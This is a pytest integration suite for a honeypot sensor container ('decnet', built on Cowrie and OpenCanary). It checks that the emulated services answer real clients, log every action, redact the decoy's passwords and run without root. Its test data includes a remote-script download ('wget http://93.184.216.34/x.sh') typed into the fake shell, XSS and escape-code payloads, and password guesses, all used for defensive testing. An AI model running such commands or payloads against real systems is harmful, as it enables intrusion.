"""The real decnet-sensor image on the local engine: real clients, real lines.

The image is built once per session (`ensure_sensor_image`: a second session finds it current
by its inputs label and builds nothing). Each sensor container runs hardened exactly as the
render will run it; clients talk to it from the host over an internal bridge network.
"""

from __future__ import annotations

import contextlib
import ftplib
import json
import socket
import ssl
import subprocess
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import paramiko
import pymysql
import pytest
from cryptography import x509
from sensor_support import (
    SensorBox,
    canary,
    cowrie,
    decnet,
    docker,
    docker_ok,
    ensure_sensor_image,
    host_key,
    internal_network,
    redis_commands,
    snmp_get,
    ssh_shell,
    state_dir,
    telnet_session,
)
from subnet_pools import fresh_lans

pytestmark = [
    pytest.mark.docker,
    pytest.mark.slow,
    pytest.mark.skipif(not docker_ok(), reason="`docker info` fails: no Docker engine"),
]

SSH_PASSWORD = "Tr0ub4dor-ssh"
TELNET_PASSWORD = "Tr0ub4dor-tel"
SYS_DESCR = "Cisco IOS Software, C2960"
SERVICES = (
    "ssh=22/tcp telnet=23/tcp ftp=21/tcp http=80/tcp https=443/tcp mysql=3306/tcp "
    "redis=6379/tcp snmp=161/udp"
)
UA = "Mozilla/5.0 (decnet-test) <script>"
SYSDESCR_OID = bytes([0x2B, 6, 1, 2, 1, 1, 1, 0])  # 1.3.6.1.2.1.1.1.0


@pytest.fixture(scope="session")
def image() -> str:
    return ensure_sensor_image()


@pytest.fixture(scope="module")
def net(image: str) -> Iterator[tuple[str, str]]:
    with internal_network(fresh_lans(1)[0]) as found:
        yield found


def ip(net: tuple[str, str], host: int) -> str:
    return net[1].rsplit(".", 1)[0] + f".{host}"


@pytest.fixture(scope="module")
def box(
    image: str, net: tuple[str, str], tmp_path_factory: pytest.TempPathFactory
) -> Iterator[SensorBox]:
    env = {
        "DECNET_SERVICES": SERVICES,
        "DECNET_DECKY": "web1",
        "DECNET_TOPOLOGY": "t1",
        "DECNET_SSH_PASSWORD": SSH_PASSWORD,
        "DECNET_SSH_HOSTNAME": "srv-web1",
        "DECNET_SSH_BANNER": "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3",
        "DECNET_TELNET_PASSWORD": TELNET_PASSWORD,
        "DECNET_TELNET_BANNER": "Ubuntu 22.04.4 LTS",
        "DECNET_HTTP_SERVER_HEADER": "Apache/2.4.57 (Debian)",
        "DECNET_HTTP_TITLE": "Intranet <Login>",
        "DECNET_HTTPS_SERVER_HEADER": "nginx/1.24.0",
        "DECNET_HTTPS_CERT_CN": "intranet.corp.local",
        "DECNET_FTP_BANNER": "220 ProFTPD 1.3.8 Server ready.",
        "DECNET_MYSQL_VERSION": "8.0.36",
        "DECNET_SNMP_COMMUNITY": "n0tpublic",
        "DECNET_SNMP_SYS_DESCR": SYS_DESCR,
        "DECNET_HEARTBEAT": "2",
    }
    sensor = SensorBox(net[0], ip(net, 10), state_dir(tmp_path_factory.mktemp("box")), env, image)
    try:
        yield sensor.start()
    finally:
        sensor.remove()


def test_real_clients_get_answers_and_every_action_is_a_line(box: SensorBox) -> None:
    # SSH: the decky's password gives Cowrie's shell; the command runs and is recorded.
    output, _ = ssh_shell(box.ip, "root", SSH_PASSWORD, "uname -a")
    assert "Linux srv-web1" in output
    # Downloads are fake: the shell reaches no address, not even a public one by its IP
    # (Cowrie itself would connect there; the internal network routes nowhere anyway).
    output, _ = ssh_shell(box.ip, "root", SSH_PASSWORD, "wget http://93.184.216.34/x.sh")
    assert "unable to resolve host address" in output and "connected" not in output
    with pytest.raises(paramiko.AuthenticationException):
        ssh_shell(box.ip, "root", "wrong-password", "id")
    # Telnet: the same with the telnet password.
    assert b"uid=0(root)" in telnet_session(box.ip, b"root", TELNET_PASSWORD.encode(), b"id")
    # FTP: a login attempt, refused.
    ftp = ftplib.FTP()
    ftp.connect(box.ip, 21, timeout=20)
    assert ftp.getwelcome() == "220 ProFTPD 1.3.8 Server ready."
    with pytest.raises(ftplib.error_perm, match="530"):
        ftp.login("backup", "ftp-guess-1")
    ftp.close()
    # HTTP: a GET with a User-Agent, a form login POST; the skin carries the title.
    page = urllib.request.urlopen(
        urllib.request.Request(f"http://{box.ip}/index.html", headers={"User-Agent": UA}),
        timeout=20,
    )
    assert page.headers["Server"] == "Apache/2.4.57 (Debian)"
    assert b"<title>Intranet &lt;Login&gt;</title>" in page.read()
    form = urllib.parse.urlencode({"username": "admin", "password": "http-guess-1"}).encode()
    urllib.request.urlopen(
        urllib.request.Request(
            f"http://{box.ip}/index.html", data=form, headers={"User-Agent": UA}
        ),
        timeout=20,
    )
    with pytest.raises(urllib.error.HTTPError, match="404"):
        urllib.request.urlopen(f"http://{box.ip}/.env", timeout=20)
    # HTTPS: the certificate names the configured CN.
    tls = ssl.create_default_context()
    tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
    urllib.request.urlopen(f"https://{box.ip}/index.html", context=tls, timeout=20)
    pem = ssl.get_server_certificate((box.ip, 443), timeout=20)
    assert "intranet.corp.local" in _subject(pem)
    # MySQL: a real handshake with credentials, refused like a real server would.
    with pytest.raises(pymysql.err.OperationalError, match="1045"):
        pymysql.connect(host=box.ip, user="root", password="mysql-guess-1", connect_timeout=20)
    # Redis: AUTH and a command.
    replies = redis_commands(box.ip, [b"AUTH", b"redis-guess-1"], [b"GET", b"secret-key"])
    assert all(r.startswith(b"-") for r in replies)
    # SNMP: the configured community is answered, another is not.
    answer = snmp_get(box.ip, b"n0tpublic", SYSDESCR_OID)
    assert answer is not None and SYS_DESCR.encode() in answer
    assert snmp_get(box.ip, b"public", SYSDESCR_OID) is None

    ok = box.wait(cowrie("cowrie.login.success"), count=2)
    assert {(d["service"], d["event"]["username"]) for d in ok} == {
        ("ssh", "root"),
        ("telnet", "root"),
    }
    failed = box.wait(cowrie("cowrie.login.failed"))[0]["event"]
    assert failed["password"] == "wrong-password"
    commands = {d["event"]["input"] for d in box.wait(cowrie("cowrie.command.input"), count=3)}
    assert {"uname -a", "wget http://93.184.216.34/x.sh", "id"} <= commands
    ftp_line = box.wait(canary(2000))[0]
    assert ftp_line["event"]["logdata"] == {"USERNAME": "backup", "PASSWORD": "ftp-guess-1"}
    get = box.wait(canary(3000))[0]["event"]["logdata"]
    assert get["USERAGENT"] == UA and get["PATH"] == "/index.html"
    post = box.wait(canary(3001))[0]["event"]["logdata"]
    assert (post["USERNAME"], post["PASSWORD"], post["USERAGENT"]) == ("admin", "http-guess-1", UA)
    other = box.wait(decnet("request", "http"))[0]["event"]
    assert (other["method"], other["path"], other["detail"]["status"]) == ("GET", "/.env", 404)
    mysql = box.wait(canary(8001))[0]["event"]["logdata"]
    assert mysql["USERNAME"] == "root" and len(mysql["PASSWORD"]) == 40  # the scramble
    redis = [d["event"]["logdata"] for d in box.wait(canary(17001), count=2)]
    assert {"CMD": "AUTH", "ARGS": "redis-guess-1"} in redis
    assert {"CMD": "GET", "ARGS": "secret-key"} in redis
    snmp = box.wait(decnet("login", "snmp"), count=2)
    assert [d["event"]["outcome"] for d in snmp] == ["success", "failure"]

    # Every TCP connection has the launcher's connect and close lines, and every line of one
    # connection carries the same session.
    lines = box.events()
    for line in lines:
        if line["sensor"] in ("cowrie", "opencanary") and line.get("service") != "snmp":
            session = line["session"]
            assert any(
                d["session"] == session for d in lines if d["event"].get("kind") == "connect"
            ), line
    assert [d["seq"] for d in lines] == list(range(1, len(lines) + 1))
    assert box.wait(decnet("sensor.heartbeat"))[0]["event"]["uptime_s"] >= 0


def _subject(pem: str) -> str:
    return x509.load_pem_x509_certificate(pem.encode()).subject.rfc4514_string()


def test_the_decky_passwords_never_reach_a_line(box: SensorBox) -> None:
    ssh_shell(box.ip, "root", SSH_PASSWORD, "true")
    box.wait(cowrie("cowrie.login.success"))
    raw = b"\n".join(box.raw())
    assert SSH_PASSWORD.encode() not in raw and TELNET_PASSWORD.encode() not in raw
    assert b"n0tpublic" not in raw
    success = box.lines(cowrie("cowrie.login.success"))[0]["event"]
    assert success["password"] == "[configured secret]"


def test_hostile_input_still_makes_valid_lines(box: SensorBox) -> None:
    hostile = b"ro\x1b[2J<script>alert(1)</script>\xff\xfe\x00ot"
    telnet_session(box.ip, hostile, b"pw\xc3\x28\x80", b"id")
    form = b"username=%FF%FE%3Cscript%3E%1B%5B31m&password=%00%C3%28"
    urllib.request.urlopen(
        urllib.request.Request(f"http://{box.ip}/index.html", data=form), timeout=20
    )
    box.wait(lambda d: "<script>" in json.dumps(d["event"]), count=2)
    for raw in box.raw():
        assert len(raw) + 1 <= 64 * 1024 and all(b < 0x80 for b in raw)
        json.loads(raw)
    telnet_line = [
        d for d in box.lines(cowrie("cowrie.login.failed")) if "<script>" in d["event"]["username"]
    ]
    assert telnet_line and telnet_line[0]["service"] == "telnet"


def test_nothing_in_the_container_runs_as_root(box: SensorBox) -> None:
    rows = [r.split() for r in docker("top", box.name, "-eo", "pid,uid").stdout.splitlines()[1:]]
    assert len(rows) == 2 and all(uid == "999" for _, uid in rows)  # tini and the sensor
    for pid in box.processes():
        status = Path(f"/proc/{pid}/status").read_text()
        fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
        assert fields["Uid"].split() == ["999"] * 4 and fields["Gid"].split() == ["999"] * 4
        assert int(fields["CapEff"], 16) == 0 and int(fields["CapPrm"], 16) == 0
        assert fields["NoNewPrivs"].strip() == "1"
    assert box.logs() == ""  # stdout and stderr stay empty while all is well


def test_host_key_and_sequence_survive_recreation(
    image: str, net: tuple[str, str], tmp_path: Path
) -> None:
    env = {"DECNET_SERVICES": "ssh=22/tcp", "DECNET_SSH_PASSWORD": "pw", "DECNET_HEARTBEAT": "0"}
    state = state_dir(tmp_path)
    first = SensorBox(net[0], ip(net, 11), state, env, image)
    try:
        first.start()
        key = host_key(first.ip)
        before = first.wait(decnet("close", "ssh"))[-1]
    finally:
        first.remove()
    second = SensorBox(net[0], ip(net, 11), state, env, image)
    try:
        second.start()
        assert host_key(second.ip) == key
        restarted = second.lines(decnet("sensor.start"))[-1]
        assert restarted["epoch"] == before["epoch"]
        lines = second.events()
        assert [d["seq"] for d in lines] == list(range(1, len(lines) + 1))
        assert restarted["seq"] > before["seq"]
    finally:
        second.remove()
    assert (
        oct((state / "state" / "cowrie" / "ssh_host_ed25519_key").stat().st_mode & 0o777) == "0o600"
    )


def test_rotation_keeps_n_files_with_a_contiguous_sequence(
    image: str, net: tuple[str, str], tmp_path: Path
) -> None:
    env = {
        "DECNET_SERVICES": "http=80/tcp",
        "DECNET_LOG_MAX_BYTES": "65536",
        "DECNET_LOG_FILES": "3",
        "DECNET_HEARTBEAT": "0",
    }
    sensor = SensorBox(net[0], ip(net, 12), state_dir(tmp_path), env, image)
    try:
        sensor.start()
        for i in range(90):
            with contextlib.suppress(urllib.error.HTTPError):
                urllib.request.urlopen(f"http://{sensor.ip}/p{i}/" + "x" * 3000, timeout=20)
        sensor.wait(decnet("close", "http"), count=1)
        names = sorted(p.name for p in sensor.files())
        assert names == ["events.jsonl", "events.jsonl.1", "events.jsonl.2"]
        for path in sensor.files():
            assert path.stat().st_size <= 65536
        seqs = [d["seq"] for d in sensor.events()]
        assert seqs[0] > 1  # the oldest lines were rotated away …
        assert seqs == list(range(seqs[0], seqs[0] + len(seqs)))  # … and no gap in the rest
    finally:
        sensor.remove()


def test_a_broken_environment_fails_with_a_clear_error(image: str) -> None:
    proc = subprocess.run(
        ["docker", "run", "--rm", "--network", "none", "--read-only", "--cap-drop", "ALL",
         "--tmpfs", "/tmp", "-e", "DECNET_SERVICES=ssh=22", image],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert proc.returncode == 78 and proc.stdout == ""
    assert "error: DECNET_SERVICES: bad port '22' of 'ssh'" in proc.stderr
    assert "hint: " in proc.stderr


ALL_IMPLEMENTED = {
    "ssh": 22, "telnet": 23, "ftp": 21, "http": 80, "https": 443, "mysql": 3306,
    "mssql": 1433, "redis": 6379, "mongodb": 27017, "rdp": 3389, "vnc": 5900,
}  # fmt: skip


def test_every_implemented_service_starts_and_answers(
    image: str, net: tuple[str, str], tmp_path: Path
) -> None:
    """One decky with every service Cowrie, OpenCanary and decnet's own code serve today: all
    start in one process (none is reported as failed), every TCP port greets or answers, and
    UDP SIP is recorded."""
    services = " ".join(f"{name}={port}/tcp" for name, port in ALL_IMPLEMENTED.items())
    services += " sip=5060/udp,5060/tcp snmp=161/udp"
    env = {"DECNET_SERVICES": services, "DECNET_HEARTBEAT": "0"}
    sensor = SensorBox(net[0], ip(net, 13), state_dir(tmp_path), env, image)
    try:
        sensor.start()
        start = sensor.lines(decnet("sensor.start"))[0]["event"]
        assert (
            start["failed"] == []
        )  # decnet's own emulators cover what Cowrie and OpenCanary do not
        for name, port in ALL_IMPLEMENTED.items():
            with socket.create_connection((sensor.ip, port), timeout=20) as s:
                s.settimeout(3)
                s.sendall(PROBES.get(name, b"\r\n"))
                with contextlib.suppress(TimeoutError):
                    s.recv(1024)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
            u.sendto(SIP_OPTIONS, (sensor.ip, 5060))
        sensor.wait(canary(15001))
        closed = {d["service"] for d in sensor.wait(decnet("close"), count=len(ALL_IMPLEMENTED))}
        assert closed == set(ALL_IMPLEMENTED)
        assert sensor.logs() == ""
    finally:
        sensor.remove()


PROBES = {
    "ssh": b"SSH-2.0-OpenSSH_9.6\r\n",
    "http": b"GET / HTTP/1.0\r\n\r\n",
    "mysql": b"",
    "rdp": bytes.fromhex(
        "0300002b26e00000000000436f6f6b69653a206d737473686173683d61646d696e0d0a0100080003000000"
    ),
    "vnc": b"RFB 003.008\n",
    "redis": b"PING\r\n",
    "mongodb": b"",
}
SIP_OPTIONS = (
    b"OPTIONS sip:100@decky SIP/2.0\r\nVia: SIP/2.0/UDP 10.0.0.9:5060\r\nFrom: <sip:a@b>\r\n"
    b"To: <sip:100@decky>\r\nCall-ID: 1@b\r\nCSeq: 1 OPTIONS\r\nContent-Length: 0\r\n\r\n"
)
